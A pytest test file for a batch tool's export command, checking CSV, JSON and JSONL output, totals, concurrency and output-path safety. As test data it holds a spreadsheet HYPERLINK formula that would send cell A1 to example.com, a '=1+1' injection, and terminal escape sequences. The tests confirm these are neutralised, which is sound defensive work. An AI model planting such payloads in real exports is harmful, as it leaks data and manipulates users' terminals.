"""`batchgen export`: the results as a table, at any time, and never over anything else."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from contextlib import ExitStack
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from batchgen.app import standing
from batchgen.app.results import export
from batchgen.app.target import Target
from batchgen.errors import ManifestInvalid, StateDamaged, UsageProblem
from batchgen.records import Failure, Record, Status
from batchgen.store.document import Document, Header, encode_document
from batchgen.store.ledger import locked, read_state
from batchgen.store.paths import StatePaths
from tests.core.samples import in_status, ways
from tests.e2e.conftest import QUICK, Shell, ended
from tests.e2e.test_run import SHOTS, many

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"open")'


def table(text: str) -> list[dict[str, str]]:
    """The rows of a CSV export."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_a_batch_with_every_kind_of_trouble_as_three_formats_that_agree_with_the_status(shell: Shell) -> None:
    """The sums of the rows are the ledger's sums; what a row says of its files is true of the files."""
    hostile = f"""\
  - {{id: "=1+1", prompt: '{FORMULA}'}}
  - {{id: lost, prompt: 'A boat [fault:created-500]'}}
  - {{id: refused, prompt: 'A kite [fault:run-failed=flagged]'}}
"""
    shell.write("shots.yaml", SHOTS + hostile)
    shell("run", "shots.yaml", "--sandbox", *QUICK)
    said = shell("export", "shots.yaml", "--sandbox", "--format", "json")
    assert (said.code, said.err) == (0, "")
    rows = json.loads(said.out)
    assert [row["id"] for row in rows] == ["lamp", "sea", "tower", "=1+1", "lost", "refused"]
    assert [row["status"] for row in rows] == ["downloaded"] * 4 + ["in_doubt", "failed"]
    assert [row["place"] for row in rows] == [f"shots.yaml:{line}" for line in (3, 4, 5, 6, 7, 8)]
    assert rows[3]["input"]["prompt"] == FORMULA
    assert (rows[4]["cost_usd"], rows[4]["error"]["code"], rows[5]["error"]["code"]) == (
        None,
        "internal_error",
        "failed",
    )
    for row in rows[:4]:
        [file] = row["files"]
        data = (shell.folder / file["path"]).read_bytes()
        assert (len(data), hashlib.sha256(data).hexdigest()) == (file["bytes"], file["sha256"])
        assert row["latency_seconds"] > 0
    money = json.loads(shell("status", "shots.yaml", "--sandbox", "--json").out)["money"]
    for column, name in (("cost_usd", "spent"), ("refunded_usd", "refunded"), ("in_doubt_usd", "in_doubt")):
        total = sum(Decimal(str(row[column] or 0)) for row in rows)
        assert total * 1_000_000 == money[f"{name}_micro_usd"] > 0

    lines = shell("export", "shots.yaml", "--sandbox", "--format", "jsonl").out.splitlines()
    assert [json.loads(line) for line in lines] == rows
    assert shell("export", "shots.yaml", "--sandbox", "--output", "out.csv").err == "Wrote 6 runs to out.csv.\n"
    text = (shell.folder / "out.csv").read_text("utf-8")
    assert text.startswith("\ufeffid,status,model,prompt,"), "the mark by which Excel knows UTF-8"
    plain = shell("export", "shots.yaml", "--sandbox").out
    assert table(plain) == table(text)
    assert plain.startswith("id,"), "no mark in a pipe"
    assert [row["id"] for row in table(text)][3:] == ["'=1+1", "lost", "refused"]
    assert table(text)[3]["prompt"] == f"'{FORMULA}"
    assert [Decimal(row["cost_usd"] or 0) for row in table(text)] == [Decimal(str(r["cost_usd"] or 0)) for r in rows]


def test_it_reads_while_another_process_writes_and_stops_nothing(shell: Shell) -> None:
    shell.write("many.csv", many(60))
    run = shell.start("run", "many.csv", "--sandbox", "--sandbox-latency", "0.02", "--rate-limit", "60/1", "-q")
    shell.wait_for(lambda: (shell.folder / "many.sandbox.state.json.journal").exists(), run)
    seen = set[str]()
    while run.poll() is None:
        said = shell("export", "many.csv", "--sandbox", "--format", "json")
        assert said.code == 0, said
        rows = json.loads(said.out)
        assert len(rows) == 60
        seen.update(row["status"] for row in rows)
    assert ended(run).code == 0
    assert "in_doubt" not in seen, "a request that is on its way is no doubt"
    assert len(seen) > 1, "it was at work"


def test_a_full_disk_or_a_reader_that_leaves_is_told_from_success(shell: Shell) -> None:
    shell.write("few.csv", many(3))
    shell.write("many.csv", many(2000))
    full = ended(shell.start("export", "few.csv", into="/dev/full"))
    assert full.code == 1
    assert "cannot be written" in full.err
    gone = shell.start("export", "many.csv")
    assert gone.stdout
    gone.stdout.close()
    gone.stdout = None
    left = ended(gone)
    assert (left.code != 0, left.err) == (True, "")


def test_every_option_has_its_variable_and_help_says_the_rule(shell: Shell) -> None:
    shell.write("many.csv", many(5))
    said = shell(
        "export", "many.csv", BATCHGEN_EXPORT_FORMAT="jsonl", BATCHGEN_EXPORT_ONLY="r00[123]", BATCHGEN_LIMIT="1"
    )
    assert [json.loads(line)["id"] for line in said.out.splitlines()] == ["r001", "r002", "r003"]
    said = shell("export", "many.csv", BATCHGEN_EXPORT_LIMIT="2", BATCHGEN_EXPORT_OUTPUT="two.jsonl")
    assert len((shell.folder / "two.jsonl").read_text().splitlines()) == 2
    told = shell("export", "--help").out
    assert "apostrophe" in told
    assert "Examples:\n    batchgen export" in told


# ------------------------------------------------------------------------------------- without a process of its own


class Batch:
    """A manifest and a state in a folder, and exports of them."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.manifest = folder / "shots.csv"
        self.state = folder / "shots.state.json"
        self.manifest.write_text("id,prompt\nlamp,A lamp\nboat,A boat\n", "utf-8")

    def save(self, *records: Record) -> None:
        """Writes the state."""
        header = Header("https://example.com", "shots.csv", "")
        self.state.write_bytes(b"".join(encode_document(header, {record.id: record for record in records})))

    def said(self, **options: Any) -> list[str]:
        """What is said of an export to a file."""
        return export(Target(self.manifest, options), io.BytesIO())

    def rows(self, **options: Any) -> list[dict[str, Any]]:
        """What is exported."""
        out = io.BytesIO()
        export(Target(self.manifest, {"form": "json", **options}), out)
        rows: list[dict[str, Any]] = json.loads(out.getvalue())
        return rows


@pytest.fixture
def batch(tmp_path: Path) -> Batch:
    """Two rows, of which the state knows one, and one more that the manifest no longer has."""
    made = Batch(tmp_path)
    made.save(in_status(Status.DOWNLOADED, "gone"), in_status(Status.DOWNLOADED, "lamp"))
    return made


def test_rows_come_in_the_manifests_order_then_what_the_state_has_beyond_it(batch: Batch) -> None:
    told = [(row["id"], row["status"], row["in_manifest"], row["row_changed"]) for row in batch.rows()]
    assert told == [
        ("lamp", "downloaded", True, False),
        ("boat", "pending", True, False),
        ("gone", "downloaded", False, None),
    ]
    batch.manifest.write_text("id,prompt\nboat,A boat\nlamp,Another lamp\n", "utf-8")
    told = [(row["id"], row["place"], row["row_changed"], row["input"]["prompt"]) for row in batch.rows()]
    at = str(batch.manifest)
    assert told[:2] == [("boat", f"{at}:2", False, "A boat"), ("lamp", f"{at}:3", True, "A lamp")]


@pytest.mark.parametrize("text", [None, "", "id,prompt,zoom\nlamp,A lamp,3\n"])
def test_a_manifest_that_cannot_be_used_any_more_takes_nothing_but_the_places(batch: Batch, text: str | None) -> None:
    batch.manifest.unlink() if text is None else batch.manifest.write_text(text, "utf-8")
    assert [(row["id"], row["place"], row["in_manifest"]) for row in batch.rows()] == [
        ("gone", None, None),
        ("lamp", None, None),
    ]
    assert batch.said() == [f"{batch.manifest} cannot be used as it is now, so no row's place in it is given."]
    batch.state.unlink()
    with pytest.raises((UsageProblem, ManifestInvalid)):
        batch.rows()


def test_an_intent_that_a_stop_has_left_is_in_doubt(batch: Batch) -> None:
    batch.save(in_status(Status.SUBMITTING))
    assert [row["status"] for row in batch.rows()] == ["in_doubt", "pending"]


def test_an_intent_whose_process_is_at_work_is_no_doubt(batch: Batch, monkeypatch: pytest.MonkeyPatch) -> None:
    """Also where the process ends between the reading and the question whether it is there."""
    batch.save(in_status(Status.SUBMITTING))
    paths = StatePaths(batch.state)
    with locked(paths):
        assert batch.rows()[0]["status"] == "pending"
    with ExitStack() as at_work:

        def read_then_end(of: StatePaths) -> Document | None:
            document = read_state(of)
            at_work.close()
            return document

        monkeypatch.setattr(standing, "read_state", read_then_end)
        at_work.enter_context(locked(paths))
        assert batch.rows()[0]["status"] == "pending"


def test_a_damaged_state_is_refused(batch: Batch) -> None:
    batch.state.write_text("{", "utf-8")
    with pytest.raises(StateDamaged):
        batch.rows()


def test_a_selection_takes_rows_and_never_columns(batch: Batch) -> None:
    assert [row["id"] for row in batch.rows(only=("la*", "go*"))] == ["lamp", "gone"]
    assert [row["id"] for row in batch.rows(only=("*",), limit=1)] == ["lamp"]
    assert batch.rows(limit=0) == []
    with pytest.raises(UsageProblem, match="matches none of the 3 runs"):
        batch.rows(only=("nothing",))
    batch.manifest.write_text("id,model,prompt,mode\nlamp,,A lamp,\nk,kling/kling-3.0,A boat,pro\n", "utf-8")
    heads = []
    for only in ((), ("lamp",), ("gone",)):
        out = io.BytesIO()
        export(Target(batch.manifest, {"only": only}), out)
        heads.append(out.getvalue().splitlines()[0])
    assert heads[0] == heads[1] == heads[2]
    assert b"prompt,aspect_ratio,resolution,duration,generate_audio,image_urls,mode,run_id" in heads[0]


@pytest.mark.parametrize(
    ("name", "form", "start"),
    [
        ("a.csv", None, b"\xef\xbb\xbfid,"),
        ("a.CSV", None, b"\xef\xbb\xbfid,"),
        ("a.json", None, b'[\n{"id":'),
        ("a.jsonl", None, b'{"id":'),
        ("a.ndjson", None, b'{"id":'),
        ("a", None, b"\xef\xbb\xbfid,"),
        ("a.csv", "jsonl", b'{"id":'),
        ("a.xlsx", "csv", b"\xef\xbb\xbfid,"),
    ],
)
def test_the_format_goes_by_the_option_then_by_the_ending(batch: Batch, name: str, form: str, start: bytes) -> None:
    output = batch.folder / name
    for _ in range(2):  # an earlier export is replaced, whatever its format was
        assert batch.said(output=output, form=form) == [f"Wrote 3 runs to {output}."]
        assert output.read_bytes().startswith(start)
    batch.said(output=output, form="json", limit=0)
    batch.said(output=output, form="csv")
    assert not list(batch.folder.glob(".*")), "no temporary file is left"


def test_an_ending_that_means_no_format_is_refused(batch: Batch) -> None:
    with pytest.raises(UsageProblem, match="goes by the ending"):
        batch.said(output=batch.folder / "a.xlsx")


STATE_FILES = ["shots.state.json", "shots.state.json.lock", "shots.state.json.journal", "shots.sandbox.state.json"]


@pytest.mark.parametrize("there", [True, False])
@pytest.mark.parametrize("name", [*STATE_FILES, "shots.state.json.emergency", "shots.csv", "videos/lamp.mp4"])
def test_no_name_that_means_something_to_the_batch_is_taken(batch: Batch, name: str, there: bool) -> None:
    """Whether there is such a file now, and also through a link."""
    path, journal = batch.folder / name, batch.folder / "shots.state.json.journal"
    path.parent.mkdir(exist_ok=True)
    if there and not path.exists() and path != journal:  # an empty journal is a damaged one
        path.write_bytes(b"")
    before = path.read_bytes() if path.exists() else None
    link = batch.folder / "link.csv"
    link.symlink_to(path)
    for output in (path, link, batch.folder / "videos" / ".." / name):
        with pytest.raises(UsageProblem, match="belongs to this batch"):
            batch.said(output=output, form="csv")
    assert (path.read_bytes() if path.exists() else None) == before


@pytest.mark.parametrize(
    "content",
    [b"id,prompt\nlamp,A lamp\n", b'{"id": "lamp", "prompt": "A lamp"}\n', b"\0\0\0\x20ftypisom", b"notes", b"[1]"],
)
def test_only_an_earlier_export_is_replaced(batch: Batch, content: bytes) -> None:
    output = batch.folder / "other.csv"
    output.write_bytes(content)
    with pytest.raises(UsageProblem, match="is no earlier export"):
        batch.said(output=output)
    assert output.read_bytes() == content
    output.write_bytes(b"")
    assert batch.said(output=output), "nothing is lost with an empty file"


def test_a_folder_a_device_and_a_path_that_is_not_there_are_refused(batch: Batch) -> None:
    for name in (batch.folder, Path("/dev/null"), batch.folder / "no" / "such.csv"):
        with pytest.raises(UsageProblem, match=r"not an ordinary file|cannot be written: No such file"):
            batch.said(output=name, form="csv")


def test_a_link_to_an_export_stays_a_link(batch: Batch) -> None:
    link, output = batch.folder / "link.csv", batch.folder / "real.csv"
    link.symlink_to(output)
    batch.said(output=link)
    assert link.is_symlink()
    assert output.read_bytes().startswith(b"\xef\xbb\xbfid,")


def test_half_a_character_is_spelled_out(batch: Batch) -> None:
    """A server's words can hold a lone surrogate, which UTF-8 cannot; the file must be readable all the same."""
    batch.save(replace(in_status(Status.DOWNLOADED), error=Failure("odd", "half \ud83d")))
    assert batch.rows()[0]["error"]["message"] == "half \ud83d"
    out = io.BytesIO()
    export(Target(batch.manifest, {}), out)
    assert "half \\ud83d" in out.getvalue().decode("utf-8")


def test_every_status_can_be_exported(batch: Batch) -> None:
    batch.save(*(in_status(status, str(status)) for status in ways()))
    assert len(batch.rows()) == len(Status) + 2


class Terminal(io.BytesIO):
    """A terminal's bytes."""

    def isatty(self) -> bool:
        """Yes."""
        return True


@pytest.mark.parametrize("form", ["csv", "json", "jsonl"])
def test_a_terminal_is_told_nothing_that_it_would_obey_and_a_file_everything(batch: Batch, form: str) -> None:
    prompt = "A lamp\x1b]0;owned\x07 \x9b2J \u202e"
    batch.save(replace(in_status(Status.DOWNLOADED), input={"prompt": prompt}))
    shown, piped = Terminal(), io.BytesIO()
    for out in (shown, piped):
        export(Target(batch.manifest, {"form": form}), out)
    assert not set("\x1b\x07\x9b\u202e\r") & set(shown.getvalue().decode())
    if form == "json":
        assert json.loads(shown.getvalue()) == json.loads(piped.getvalue())
    if form == "csv":
        assert table(piped.getvalue().decode())[0]["prompt"] == prompt
